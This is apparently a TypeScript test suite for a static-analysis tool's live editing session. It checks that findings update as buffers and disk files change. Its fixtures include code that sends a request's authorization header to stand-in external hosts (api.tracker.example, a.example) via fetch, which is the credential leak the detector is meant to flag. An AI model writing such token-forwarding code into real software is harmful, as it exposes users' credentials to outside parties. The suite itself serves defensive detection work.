/** A workspace that is edited: what it says after each change is what a fresh look at the same state says. */
import assert from 'node:assert/strict';
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { rules } from '../../rules/index.ts';
import models from '../../rules/models.json' with { type: 'json' };
import { Aborted } from '../../server/aborted.ts';
import { createLiveSession, type LiveSession } from '../../server/live/live-session.ts';
import type { Model } from '../../server/models/model.ts';
import { inTree } from '../input/tree.ts';

const route = (body: string): string =>
  `import express from 'express';\nimport { forward } from './forward.js';\nexpress().get('/', (req) => ${body});\n`;
const leaking = `export const forward = (token?: string) => fetch('https://api.tracker.example', { headers: { authorization: token ?? '' } });\n`;
const silent = 'export const forward = (token?: string) => token?.length;\n';
const files = { '.git/HEAD': '', 'route.ts': route('forward(req.headers.authorization)'), 'forward.ts': leaking };

function withLive(use: (live: LiveSession, root: string) => void, isAborted?: () => boolean): void {
  inTree(files, (root) => {
    const loaded = { config: {}, models: [], failures: [], warnings: [], unused: [] };
    // The generated file was validated when it was written; its literals are wider than the model's types.
    const known = models as unknown as Model[];
    use(
      createLiveSession({ paths: [root], loaded, models: known, cwd: root, ...(isAborted ? { isAborted } : {}) }),
      root,
    );
  });
}

const found = (live: LiveSession): string[] =>
  live.lint({ rules }).findings.map(({ at, path }) => [...new Set([...path.map((s) => s.file), at.file])].join(' > '));

describe('a live session', () => {
  it('takes the open buffer for the file, and the file again once it is closed', () => {
    withLive((live) => {
      assert.deepEqual(found(live), ['route.ts > forward.ts']);
      live.open('forward.ts', silent);
      assert.deepEqual(found(live), []);
      live.close('forward.ts');
      assert.deepEqual(found(live), ['route.ts > forward.ts']);
    });
  });

  it('sees files that were changed, deleted and created on the disk', () => {
    withLive((live, root) => {
      writeFileSync(join(root, 'forward.ts'), silent);
      live.changed(['forward.ts']);
      assert.deepEqual(found(live), []);
      rmSync(join(root, 'forward.ts'));
      writeFileSync(join(root, 'route.ts'), route('fetch(`https://a.example/${req.headers.authorization}`)'));
      live.changed(['forward.ts', 'route.ts']);
      assert.deepEqual(found(live), ['route.ts']);
      writeFileSync(join(root, 'other.ts'), 'export {};\n');
      live.changed(['other.ts']);
      assert.equal(live.lint({ rules }).summary.files, 2);
    });
  });

  it('forgets a file that was deleted below its buffer once that is closed', () => {
    withLive((live, root) => {
      live.open('forward.ts', leaking);
      rmSync(join(root, 'forward.ts'));
      assert.deepEqual(found(live), ['route.ts > forward.ts']);
      live.close('forward.ts');
      const { findings, failures, summary } = live.lint({ rules });
      assert.deepEqual([findings, failures, summary.files], [[], [], 1]);
    });
  });

  it('takes a buffer that nobody has saved for a file, as the rest of the disk would have it', () => {
    withLive((live, root) => {
      rmSync(join(root, 'forward.ts'));
      writeFileSync(join(root, '.gitignore'), 'local.ts\n');
      live.changed(['forward.ts', '.gitignore']);
      assert.deepEqual(found(live), []);
      live.open('forward.ts', leaking);
      assert.deepEqual(found(live), ['route.ts > forward.ts']);
      const unsaved = [
        'new/deep/forward.ts',
        'dist/forward.ts',
        'new/dist/forward.ts',
        'local.ts',
        'node_modules/a/b.ts',
        'notes.md',
      ];
      for (const path of unsaved) live.open(path, leaking);
      assert.deepEqual(
        live.session().workspace.files.map(({ path }) => path),
        ['forward.ts', 'new/deep/forward.ts', 'route.ts'],
      );
      writeFileSync(join(root, 'forward.ts'), silent);
      live.changed(['forward.ts']);
      assert.deepEqual(found(live), ['route.ts > forward.ts']);
      live.close('forward.ts');
      assert.deepEqual(found(live), []);
      for (const path of unsaved) live.close(path);
      assert.equal(live.session().workspace.files.length, 2);
    });
  });

  it('gives up an answer that is no longer wanted, and answers the next question', () => {
    let isUnwanted = false;
    withLive(
      (live) => {
        isUnwanted = true;
        assert.throws(() => live.lint({ rules }), Aborted);
        isUnwanted = false;
        assert.deepEqual(found(live), ['route.ts > forward.ts']);
      },
      () => isUnwanted,
    );
  });
});
